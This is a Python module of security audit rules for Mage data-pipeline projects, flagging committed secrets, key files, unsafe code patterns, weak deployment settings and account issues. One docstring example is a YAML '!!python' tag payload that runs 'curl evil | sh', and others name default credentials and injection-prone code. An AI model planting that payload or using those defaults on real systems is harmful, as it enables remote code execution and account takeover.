"""Rules of category ``security``: committed secrets and files, risky code, server settings, accounts.

They read ``ctx.extras["security"]`` (a :class:`auditkit.readers.security.SecurityScan`);
account rules also need the run history. Evidence names a kind and a short fingerprint,
never a value.
"""
from __future__ import annotations

from typing import Iterator

from auditkit.rules.base import Rule, Threshold, register
from auditkit.rules.util import rows

_SECRETS = ("BP-SECURITY-SECRETS",)
_AUTH = ("BP-SECURITY-AUTHENTICATION",)
_CODE = ("BP-SECURITY-CODE",)


class _SecurityRule(Rule):
    """Shared access to the security scan."""

    category = "security"
    needs = frozenset({"security"})

    @property
    def scan(self):
        return self.ctx.extras["security"]

    def frame_rows(self, name: str, **equals) -> Iterator[dict]:
        frame = getattr(self.scan, name)
        for column, wanted in equals.items():
            values = wanted if isinstance(wanted, (set, tuple, list)) else (wanted,)
            frame = frame[frame[column].isin(values)]
        yield from rows(frame)


class _SecretRule(_SecurityRule):
    """One finding per row of ``scan.secrets`` with one of ``sources``."""

    sources: tuple[str, ...] = ()
    label = "secret"

    def severity_for(self, row: dict) -> str | None:
        return None

    def check(self):
        for row in self.frame_rows("secrets", source=self.sources):
            yield self.finding(
                f"{self.label} committed ({row['kind'].replace('_', ' ')})",
                key=(row["kind"], row["fingerprint"]), project=row.get("project"), path=row["path"],
                line=row.get("line"), evidence=f"kind={row['kind']} fingerprint={row['fingerprint']}",
                severity=self.severity_for(row))


@register
class HardcodedSecret(_SecretRule):
    """A file holds a value that a secret detector recognises as a credential.

    What it checks:
        Every text file of the repo (blocks, utils, configs, notebooks, docs) with
        detect-secrets' plugins and filters: cloud keys, private keys, tokens, passwords next
        to credential keywords, URLs with passwords, high-entropy strings.

    Why it matters:
        Anything committed is readable by everyone with repo access, forever (git history),
        and is copied into every clone, fork and CI log.

    Example:
        ``engine = create_engine("postgresql://etl:S3cret@db/warehouse")`` in a loader.

    Fix:
        Rotate the credential, remove it from the file and history, and read it with
        ``os.getenv`` or ``get_secret_value`` / ``mage_secret_var`` instead.
    """

    id = "MAGE-SEC-001"
    name = "hardcoded-secret"
    title = "Hard-coded secret in a file"
    severity = "high"
    practices = _SECRETS
    sources = ("detect-secrets",)
    label = "hard-coded secret"

    def severity_for(self, row: dict) -> str | None:
        # Entropy-only matches are often ids or hashes; a reviewer should look, not panic.
        return "medium" if row["kind"] == "high_entropy_string" else None


@register
class IoConfigLiteralCredential(_SecretRule):
    """``io_config.yaml`` holds a literal credential instead of ``env_var``/``mage_secret_var``.

    What it checks:
        Leaves of every io_config profile whose key names a credential (password, secret,
        token, key) and whose value is a literal that is not one of Mage's template
        placeholders.

    Why it matters:
        io_config.yaml is committed with the project; a literal password there is a live
        database credential in git.

    Example:
        ``SNOWFLAKE_PASSWORD: f64!4pWCHITk`` under the ``dev`` profile.

    Fix:
        Use ``"{{ env_var('SNOWFLAKE_PASSWORD') }}"`` or ``"{{ mage_secret_var('snowflake_password') }}"``
        and rotate the exposed password.
    """

    id = "MAGE-SEC-002"
    name = "io-config-literal-credential"
    title = "Literal credential in io_config.yaml"
    severity = "high"
    practices = _SECRETS
    sources = ("io_config",)
    label = "io_config credential"


@register
class TriggerTokenCommitted(_SecretRule):
    """A ``triggers.yaml`` commits the ``token`` of an API trigger.

    What it checks:
        ``token:`` keys with a value in ``pipelines/*/triggers.yaml``.

    Why it matters:
        Mage authenticates the API-trigger endpoint only by this token, even with user
        authentication on: anyone who reads the repo can start the pipeline.

    Example:
        ``token: 4f1c2b3a9d8e7f60a1b2c3d4e5f60718`` in an ``api`` trigger.

    Fix:
        Remove the key (Mage then generates a random token in its DB) and rotate the trigger.
    """

    id = "MAGE-SEC-003"
    name = "trigger-token-committed"
    title = "API-trigger token committed in triggers.yaml"
    severity = "high"
    practices = _SECRETS
    sources = ("triggers",)
    label = "API-trigger token"


@register
class MetadataSecret(_SecretRule):
    """Project or pipeline metadata holds an OpenAI key or a literal webhook URL.

    What it checks:
        ``openai_api_key`` and ``webhook_url`` values in ``metadata.yaml`` files that are not
        Jinja expressions.

    Why it matters:
        An OpenAI key is billed to its owner; a Slack or Teams webhook URL lets anyone post
        into the alert channel.

    Example:
        ``openai_api_key: sk-...`` in the project ``metadata.yaml``.

    Fix:
        Use ``"{{ env_var('OPENAI_API_KEY') }}"`` (or a Mage secret) and rotate the key or webhook.
    """

    id = "MAGE-SEC-004"
    name = "metadata-secret"
    title = "Secret in project or pipeline metadata"
    severity = "high"
    practices = _SECRETS
    sources = ("metadata",)
    label = "metadata secret"

    def severity_for(self, row: dict) -> str | None:
        return "medium" if row["kind"] == "webhook_url" else None


@register
class EnvFileCredential(_SecretRule):
    """A committed ``.env`` file sets a credential-named variable to a literal.

    What it checks:
        ``KEY=value`` lines of ``.env`` files whose key names a credential.

    Why it matters:
        ``.env`` files are meant to stay on one machine; committed, they publish every
        credential they hold.

    Example:
        ``STRIPE_API_KEY=rk_live_...`` in ``.env``.

    Fix:
        Remove the file from git, add ``.env`` to ``.gitignore``, commit a ``.env.example``
        with empty values, rotate the credentials.
    """

    id = "MAGE-SEC-005"
    name = "env-file-credential"
    title = "Credential in a committed .env file"
    severity = "high"
    practices = _SECRETS
    sources = ("env_file",)
    label = ".env credential"


class _ExposedRule(_SecurityRule):
    kinds: tuple[str, ...] = ()

    def check(self):
        for row in self.frame_rows("exposed_files", kind=self.kinds):
            yield self.finding(row["reason"], key=row["kind"], project=row.get("project"),
                               path=row["path"], evidence=f"kind={row['kind']}")


@register
class EnvFileCommitted(_ExposedRule):
    """A ``.env`` file is committed.

    What it checks:
        Files named ``.env``, ``.env.<name>`` or ``<name>.env`` (examples and templates excluded).

    Why it matters:
        Environment files carry deployment settings and usually credentials; once committed
        they spread with every clone.

    Example:
        ``.env`` next to ``docker-compose.yml``.

    Fix:
        ``git rm --cached .env``, ignore it, and commit ``.env.example`` without values.
    """

    id = "MAGE-SEC-006"
    name = "env-file-committed"
    title = "Environment file committed"
    severity = "medium"
    practices = _SECRETS
    kinds = ("env_file",)


@register
class PrivateKeyCommitted(_ExposedRule):
    """A private key file is committed.

    What it checks:
        Files starting with a PEM ``PRIVATE KEY`` header, ``id_rsa``-style names and key stores.

    Why it matters:
        A private key grants whatever the key is trusted for (SSH hosts, TLS identity,
        git-sync) to anyone who reads the repo.

    Example:
        ``keys/deploy_key.pem``.

    Fix:
        Revoke the key, remove it from history, and mount it from a secret store at run time.
    """

    id = "MAGE-SEC-007"
    name = "private-key-committed"
    title = "Private key committed"
    severity = "critical"
    practices = _SECRETS
    kinds = ("private_key",)


@register
class ServiceAccountKeyCommitted(_ExposedRule):
    """A cloud service-account key file is committed.

    What it checks:
        JSON files with ``"type": "service_account"`` and a ``private_key``.

    Why it matters:
        The file is a complete, long-lived cloud credential (BigQuery, GCS, ...).

    Example:
        ``credentials/gcp-sa.json``.

    Fix:
        Delete the key in the cloud console, remove the file from history, and use workload
        identity or a secret store.
    """

    id = "MAGE-SEC-008"
    name = "service-account-key-committed"
    title = "Service-account key file committed"
    severity = "critical"
    practices = _SECRETS
    kinds = ("service_account_key",)


@register
class SecretsKeyCommitted(_ExposedRule):
    """Mage's secrets encryption key (``secrets/key``) is committed.

    What it checks:
        Files at ``secrets/key`` or ``secrets/projects/<uuid>[/pipelines/<uuid>]/key``.

    Why it matters:
        With the run-history DB, the key decrypts every value of Mage's ``secret`` table.

    Example:
        ``mage_data/secrets/key``.

    Fix:
        Remove the key from git, rotate every Mage secret, and keep ``secrets/`` ignored.
    """

    id = "MAGE-SEC-009"
    name = "secrets-key-committed"
    title = "Mage secrets key committed"
    severity = "critical"
    practices = _SECRETS
    kinds = ("secrets_key",)


@register
class MageDataCommitted(_ExposedRule):
    """Mage's data folder or run-history database is committed.

    What it checks:
        ``mage_data/`` or ``.mage_data/`` folders and ``mage-ai.db`` files.

    Why it matters:
        The DB holds users, password hashes, plaintext OAuth and API-trigger tokens and
        encrypted secrets; the folder also holds block outputs (often personal data) and logs.

    Example:
        ``mage_data/analytics/mage-ai.db``.

    Fix:
        Remove them from git and keep Mage's template ``.gitignore`` (``mage_data/``, ``mage-ai.db``).
    """

    id = "MAGE-SEC-010"
    name = "mage-data-committed"
    title = "Mage data folder or database committed"
    severity = "high"
    practices = _SECRETS
    kinds = ("mage_data_dir", "mage_db")


@register
class ServerStateCommitted(_ExposedRule):
    """Server-written state (``.ssh_tunnel/``, ``.file_versions/``) is committed.

    What it checks:
        ``.ssh_tunnel/`` (written by the server on start, not in Mage's template ``.gitignore``)
        and ``.file_versions/`` folders.

    Why it matters:
        Saved file versions keep old copies of edited files, including credentials that were
        later removed; tunnel state describes infrastructure.

    Example:
        ``.file_versions/io_config.yaml/1718000000``.

    Fix:
        Remove the folders from git and add them to ``.gitignore``.
    """

    id = "MAGE-SEC-011"
    name = "server-state-committed"
    title = "Mage server state committed"
    severity = "low"
    practices = _SECRETS
    kinds = ("ssh_tunnel_dir", "file_versions_dir")


class _CodeRiskRule(_SecurityRule):
    kinds: tuple[str, ...] = ()

    def check(self):
        for row in self.frame_rows("code_risks", kind=self.kinds):
            yield self.finding(row["detail"], key=(row["kind"], row.get("line")), project=row.get("project"),
                               path=row["path"], line=row.get("line"),
                               evidence=f"check={row['test_id']}")


@register
class YamlPythonTag(_CodeRiskRule):
    """A YAML file holds a ``!!python/`` tag.

    What it checks:
        Every ``.yaml``/``.yml`` file of the repo for ``!!python/...`` tags.

    Why it matters:
        Mage loads pipeline and project YAML with PyYAML's unsafe loader, so the tag runs
        code inside the Mage server when the file is loaded.

    Example:
        ``description: !!python/object/apply:os.system ["curl evil | sh"]``.

    Fix:
        Remove the tag; YAML config needs only plain values.
    """

    id = "MAGE-SEC-012"
    name = "yaml-python-tag"
    title = "YAML with a !!python tag"
    severity = "high"
    practices = _CODE
    kinds = ("yaml_python_tag",)


@register
class SqlBuiltFromStrings(_CodeRiskRule):
    """A query call receives SQL built with f-strings, ``%``, ``.format`` or ``+``.

    What it checks:
        Calls such as ``execute``, ``read_sql``, ``query``, ``load`` or ``text`` whose SQL
        argument (directly or through a variable of the same function) is built from run-time
        values.

    Why it matters:
        Values spliced into SQL can change the statement (SQL injection) and break on quotes;
        the guide asks for parameterized queries.

    Example:
        ``pd.read_sql(f"SELECT * FROM customers WHERE id = {customer_id}", engine)``.

    Fix:
        ``pd.read_sql("SELECT * FROM customers WHERE id = :id", engine, params={"id": customer_id})``.
    """

    id = "MAGE-SEC-013"
    name = "sql-built-from-strings"
    title = "SQL built from strings passed to a query"
    severity = "medium"
    practices = _CODE
    kinds = ("sql_injection",)


@register
class DynamicCodeExecution(_CodeRiskRule):
    """A block calls ``eval`` or ``exec`` (bandit B307, B102).

    What it checks:
        ``eval(...)`` and ``exec(...)`` calls in Python files of Mage projects.

    Why it matters:
        Text that reaches them runs as code with the pipeline's credentials; the guide says
        never to execute input.

    Example:
        ``eval(rule['expression'])`` to apply business rules.

    Fix:
        Parse data with ``ast.literal_eval`` or ``json``; map rule names to functions.
    """

    id = "MAGE-SEC-014"
    name = "dynamic-code-execution"
    title = "eval or exec in block code"
    severity = "medium"
    practices = _CODE
    kinds = ("dynamic_code",)


@register
class UnsafeDeserialization(_CodeRiskRule):
    """A block loads pickle data or YAML with an unsafe loader (bandit B301, B506).

    What it checks:
        ``pickle``/``dill``/``shelve`` loads and ``yaml.load`` without a safe loader.

    Why it matters:
        Both construct arbitrary objects, so a tampered input file runs code.

    Example:
        ``model = pickle.loads(blob)`` on a file downloaded from a bucket.

    Fix:
        Use Parquet/JSON for data, ``yaml.safe_load`` for YAML, and verify model artefacts.
    """

    id = "MAGE-SEC-015"
    name = "unsafe-deserialization"
    title = "Unsafe pickle or YAML loading"
    severity = "medium"
    practices = _CODE
    kinds = ("unsafe_deserialization", "unsafe_yaml_load")


@register
class ShellCommand(_CodeRiskRule):
    """A block starts a process through a shell (bandit B602, B604, B605).

    What it checks:
        ``subprocess`` calls with ``shell=True``, ``os.system`` and ``os.popen``.

    Why it matters:
        Values in the command line are interpreted by the shell (command injection).

    Example:
        ``subprocess.run(f"gsutil cp {path} .", shell=True)``.

    Fix:
        Pass an argument list without a shell: ``subprocess.run(["gsutil", "cp", path, "."])``.
    """

    id = "MAGE-SEC-016"
    name = "shell-command"
    title = "Process started through a shell"
    severity = "medium"
    practices = _CODE
    kinds = ("shell_command",)


@register
class PersonalDataInLogs(_CodeRiskRule):
    """A logging or ``print`` call writes email, phone or name fields unmasked.

    What it checks:
        Arguments of ``logger.*``/``logging.*``/``print`` calls that use variables,
        attributes or columns named like personal data (email, phone, first/last/full name)
        outside a hashing or masking call.

    Why it matters:
        Block logs are kept on disk and shipped to log stores; the guide asks to mask PII in
        logs (GDPR/CCPA).

    Example:
        ``logger.info(f"processing {row['email']}")``.

    Fix:
        Log an id or a hash: ``hashlib.sha256(email.encode()).hexdigest()[:8]``.
    """

    id = "MAGE-SEC-017"
    name = "personal-data-in-logs"
    title = "Personal data written to logs"
    severity = "medium"
    practices = ("BP-SECURITY-PII",)
    kinds = ("pii_in_logs",)


class _DeploymentRule(_SecurityRule):
    def deployments(self) -> Iterator[dict]:
        yield from self.frame_rows("deployments")

    def at(self, row: dict, message: str, key: str, evidence: str, severity: str | None = None):
        return self.finding(message, key=(row.get("service"), key), project=row.get("project"),
                            path=row["file"], evidence=evidence, severity=severity)


@register
class AuthenticationDisabled(_DeploymentRule):
    """A Mage deployment runs without user authentication.

    What it checks:
        ``REQUIRE_USER_AUTHENTICATION`` of each Mage deployment (compose service, Dockerfile,
        Kubernetes or Terraform), or its default for the pinned image: off before 0.9.78.
        Critical when the port is also published on all interfaces.

    Why it matters:
        Without authentication every caller is owner: they can read secrets, edit and run
        code on the server (CVE-2025-2129 changed the default).

    Example:
        ``image: mageai/mageai:0.9.76`` with no ``REQUIRE_USER_AUTHENTICATION`` and ``"6789:6789"``.

    Fix:
        Set ``REQUIRE_USER_AUTHENTICATION: 1`` (and upgrade to 0.9.78+), and publish the port
        only on localhost or behind an authenticating proxy.
    """

    id = "MAGE-SEC-018"
    name = "authentication-disabled"
    title = "User authentication off"
    severity = "high"
    practices = _AUTH

    def check(self):
        for row in self.deployments():
            if row.get("auth_enabled") is False:
                exposed = bool(row.get("ports_all_interfaces"))
                yield self.at(row, "user authentication is off" + (" and the port is published on all interfaces" if exposed else ""),
                              "auth", f"auth_source={row.get('auth_source')} mage_version={row.get('mage_version')}",
                              severity="critical" if exposed else None)


@register
class DefaultOwnerPasswordConfigured(_DeploymentRule):
    """A deployment file sets ``DEFAULT_OWNER_PASSWORD`` to a literal.

    What it checks:
        Literal (not ``${VAR}`` or secret reference) values of ``DEFAULT_OWNER_PASSWORD``.

    Why it matters:
        The first owner account gets this password; committed, it is the owner login.

    Example:
        ``DEFAULT_OWNER_PASSWORD: Welcome2024!`` in ``docker-compose.yml``.

    Fix:
        Pass it from a secret store, log in once and change it.
    """

    id = "MAGE-SEC-019"
    name = "default-owner-password-configured"
    title = "Owner password set in a deployment file"
    severity = "high"
    practices = _AUTH

    def check(self):
        for row in self.deployments():
            if row.get("owner_password") == "literal":
                yield self.at(row, "DEFAULT_OWNER_PASSWORD is a literal in a committed file", "owner_password",
                              "setting=DEFAULT_OWNER_PASSWORD value=literal (redacted)")


@register
class JwtSecretDefault(_DeploymentRule):
    """A deployment leaves ``JWT_SECRET`` unset, so sessions are signed with Mage's default.

    What it checks:
        Mage deployments without ``JWT_SECRET``.

    Why it matters:
        The default ``materia`` is public; anyone can decode or mint the session JWT wrapper.

    Example:
        A compose service with no ``JWT_SECRET`` in ``environment`` or ``env_file``.

    Fix:
        Set ``JWT_SECRET`` from a secret store to a long random value.
    """

    id = "MAGE-SEC-020"
    name = "jwt-secret-default"
    title = "JWT secret left at the default"
    severity = "medium"
    practices = _AUTH

    def check(self):
        for row in self.deployments():
            if row.get("jwt_secret") == "unset":
                yield self.at(row, "JWT_SECRET is not set; Mage signs sessions with its public default",
                              "jwt", "setting=JWT_SECRET value=unset")


@register
class NotebookEditInProduction(_DeploymentRule):
    """A production deployment leaves notebook editing enabled.

    What it checks:
        Deployments with ``ENV`` ``prod``/``production`` whose ``DISABLE_NOTEBOOK_EDIT_ACCESS``
        is unset or ``0``.

    Why it matters:
        In production, code should change through git and CI, not by editing and running
        blocks on the server.

    Example:
        ``ENV: prod`` without ``DISABLE_NOTEBOOK_EDIT_ACCESS``.

    Fix:
        Set ``DISABLE_NOTEBOOK_EDIT_ACCESS: 1`` (or ``2``) in production.
    """

    id = "MAGE-SEC-021"
    name = "notebook-edit-in-production"
    title = "Notebook editing enabled in production"
    severity = "medium"
    practices = _AUTH

    def check(self):
        for row in self.deployments():
            if row.get("production") and str(row.get("notebook_edit")) in ("unset", "0"):
                yield self.at(row, "production deployment allows editing and running code in the UI",
                              "notebook_edit", f"DISABLE_NOTEBOOK_EDIT_ACCESS={row.get('notebook_edit')}")


@register
class LongAccessTokenLifetime(_DeploymentRule):
    """Access tokens live longer than the configured maximum.

    What it checks:
        ``MAGE_ACCESS_TOKEN_EXPIRY_TIME`` (default 30 days) against ``max_seconds``.

    Why it matters:
        A stolen session token stays valid for its whole lifetime.

    Example:
        ``MAGE_ACCESS_TOKEN_EXPIRY_TIME: 31536000`` (one year).

    Fix:
        Lower the lifetime to what your users need.

    Options:
        ``max_seconds``: the longest acceptable lifetime.
    """

    id = "MAGE-SEC-022"
    name = "long-access-token-lifetime"
    title = "Access-token lifetime too long"
    severity = "low"
    practices = _AUTH
    thresholds = (Threshold("max_seconds", 2_592_000, "longest acceptable token lifetime in seconds", "integer > 0"),)

    def check(self):
        limit = self.option("max_seconds")
        for row in self.deployments():
            expiry = row.get("token_expiry_s")
            if expiry is not None and expiry > limit:
                yield self.at(row, f"access tokens live {int(expiry)} s (maximum {limit})", "expiry",
                              f"MAGE_ACCESS_TOKEN_EXPIRY_TIME={int(expiry)}")


@register
class PortOnAllInterfaces(_DeploymentRule):
    """The Mage port is published on all network interfaces.

    What it checks:
        Compose ``ports`` of Mage services without a host address (``"6789:6789"``) or bound
        to ``0.0.0.0``.

    Why it matters:
        The UI and API (which sends ``Access-Control-Allow-Origin: *``) become reachable from
        the whole network.

    Example:
        ``ports: ["6789:6789"]``.

    Fix:
        ``"127.0.0.1:6789:6789"`` behind a reverse proxy with TLS and an allow-list.
    """

    id = "MAGE-SEC-023"
    name = "port-on-all-interfaces"
    title = "Mage port published on all interfaces"
    severity = "medium"
    practices = ("BP-SECURITY-AUTHENTICATION",)

    def check(self):
        for row in self.deployments():
            if row.get("ports_all_interfaces"):
                yield self.at(row, "Mage port published on all interfaces", "ports",
                              "ports=" + ",".join(row.get("published_ports") or []))


@register
class UnpinnedMageImage(_DeploymentRule):
    """A deployment uses ``mageai/mageai`` without a version tag or with ``latest``.

    What it checks:
        Image references of Mage deployments.

    Why it matters:
        The running version (and its security defaults, such as authentication before
        0.9.78) changes without review and cannot be audited from the repo.

    Example:
        ``image: mageai/mageai:latest``.

    Fix:
        Pin a reviewed version, e.g. ``mageai/mageai:0.9.79``, and upgrade deliberately.
    """

    id = "MAGE-SEC-024"
    name = "unpinned-mage-image"
    title = "Mage image not pinned"
    severity = "low"
    practices = _AUTH

    def check(self):
        for row in self.deployments():
            if row.get("image") and not row.get("image_pinned"):
                yield self.at(row, "Mage image is not pinned to a version", "image",
                              f"tag={row.get('mage_version') or 'none'}")


class _AccountRule(_SecurityRule):
    needs = frozenset({"security", "history"})


@register
class DefaultOwnerPassword(_AccountRule):
    """A user still has Mage's default password ``admin``.

    What it checks:
        bcrypt hashes of the default owner and of owners/admins in the run-history DB
        against ``admin`` (only the yes/no answer is kept).

    Why it matters:
        ``admin@admin.com`` / ``admin`` is the first thing an attacker tries; it is owner.

    Example:
        The ``admin@admin.com`` user created by the first ``mage start``.

    Fix:
        Log in and change the password, or create a named owner and delete the default user.
    """

    id = "MAGE-SEC-025"
    name = "default-owner-password"
    title = "Default owner password unchanged"
    severity = "critical"
    practices = _AUTH

    def check(self):
        for row in self.frame_rows("accounts"):
            if row.get("uses_default_password") is True:
                yield self.finding("a user account still uses the default password 'admin'",
                                   key=row["user_key"], evidence=f"user={row['user_key']} domain={row.get('email_domain')}")


@register
class TooManyAdmins(_AccountRule):
    """More owners and admins than the configured maximum.

    What it checks:
        Users with the Owner or Admin role (new role tables or the legacy ``owner`` column
        and ``roles`` bitmask) against ``max_admins``.

    Why it matters:
        Every admin can read secrets and change any pipeline; the guide asks for least privilege.

    Example:
        Nine of twelve users are admins.

    Fix:
        Give editors and viewers the Editor/Viewer roles.

    Options:
        ``max_admins``: the largest acceptable number of owners plus admins.
    """

    id = "MAGE-SEC-026"
    name = "too-many-admins"
    title = "Too many owners and admins"
    severity = "low"
    practices = _AUTH
    thresholds = (Threshold("max_admins", 3, "largest acceptable number of owners plus admins", "integer >= 1"),)

    def check(self):
        frame = self.scan.accounts
        if frame.empty:
            return
        count = int((frame["is_owner"].astype(bool) | frame["is_admin"].astype(bool)).sum())
        limit = self.option("max_admins")
        if count > limit:
            yield self.finding(f"{count} users are owners or admins (maximum {limit})", key="admins",
                               evidence=f"owners_and_admins={count} users={len(frame)}")


@register
class UserWithoutRole(_AccountRule):
    """A user has no role.

    What it checks:
        Users with no ``user_role`` row, no legacy ``roles`` bits and no ``owner`` flag.

    Why it matters:
        Access of role-less users depends on fallbacks; stale accounts often look like this.

    Example:
        A former contractor's user with no role.

    Fix:
        Assign a role or delete the user.
    """

    id = "MAGE-SEC-027"
    name = "user-without-role"
    title = "User without a role"
    severity = "low"
    practices = _AUTH

    def check(self):
        for row in self.frame_rows("accounts"):
            if not row.get("roles") and not row.get("legacy_roles") and not row.get("is_owner"):
                yield self.finding("user has no role", key=row["user_key"], evidence=f"user={row['user_key']}")


@register
class ActiveApiTrigger(_AccountRule):
    """An active API trigger is authenticated only by its token; high when that token is committed.

    What it checks:
        Active ``API`` schedules in the run-history DB; their token fingerprint is compared
        with the tokens committed in ``triggers.yaml``.

    Why it matters:
        The API-trigger endpoint accepts the token alone, even with user authentication on.

    Example:
        An active API trigger whose token is also in ``pipelines/x/triggers.yaml``.

    Fix:
        Keep tokens out of git, rotate committed ones, and deactivate unused API triggers.
    """

    id = "MAGE-SEC-028"
    name = "active-api-trigger"
    title = "Active API trigger (token-only access)"
    severity = "low"
    practices = _SECRETS

    def check(self):
        committed = self.scan.committed_trigger_tokens
        for row in self.frame_rows("api_triggers"):
            if not (row.get("active") and row.get("has_token")):
                continue
            leaked = row.get("token_fingerprint") in committed
            yield self.finding(
                "active API trigger whose token is committed in triggers.yaml" if leaked
                else "active API trigger is reachable with its token alone",
                key=(row.get("pipeline_uuid"), row.get("name")), pipeline=row.get("pipeline_uuid"),
                evidence=f"trigger={row.get('name')} token_committed={leaked}",
                severity="high" if leaked else None)


@register
class StoredSecretsWithCommittedKey(_AccountRule):
    """Mage's ``secret`` table has rows and the key that decrypts them is committed.

    What it checks:
        Rows in the DB's ``secret`` table together with a committed ``secrets/key``.

    Why it matters:
        Key plus DB decrypt every stored secret: all of them must be considered leaked.

    Example:
        ``mage_data/secrets/key`` committed while the DB stores ``stripe_api_key``.

    Fix:
        Rotate every stored secret, remove the key from git history and keep ``secrets/`` ignored.
    """

    id = "MAGE-SEC-029"
    name = "stored-secrets-with-committed-key"
    title = "Stored secrets decryptable with a committed key"
    severity = "critical"
    practices = _SECRETS

    def check(self):
        stored = self.scan.stored_secrets
        n = int(stored["n_secrets"].sum()) if len(stored) else 0
        keys = [r for r in self.frame_rows("exposed_files", kind="secrets_key")]
        if n and keys:
            yield self.finding(f"{n} stored secrets can be decrypted with the committed key",
                               key="secrets", path=keys[0]["path"], project=keys[0].get("project"),
                               evidence=f"stored_secrets={n} key_files={len(keys)}")
